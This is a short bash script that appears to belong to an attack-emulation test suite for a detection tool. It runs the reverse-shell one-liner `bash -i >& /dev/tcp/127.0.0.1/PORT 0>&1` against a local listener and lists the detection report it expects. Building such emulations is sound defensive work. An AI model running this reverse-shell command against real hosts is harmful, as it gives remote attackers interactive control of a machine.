#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution, command-and-control
# what: the classic one-liner `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1`: an interactive
#   bash whose stdin, stdout and stderr are one TCP connection to a listener the scenario
#   runs on 127.0.0.1; the listener drives `id`, `uname -a`, `hostname` through it.
# report: a reverse shell: bash with stdin and stdout on the same socket to 127.0.0.1:PORT,
#   Critical, with the listener address and the commands it ran.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_backup "$HOME/.bash_history"  # the interactive shell appends to it

emul_server shell --commands "id;uname -a;hostname"
listener=$EMUL_BG_PID
bash -c "bash -i >& /dev/tcp/127.0.0.1/$EMUL_PORT 0>&1" || true
wait "$listener"
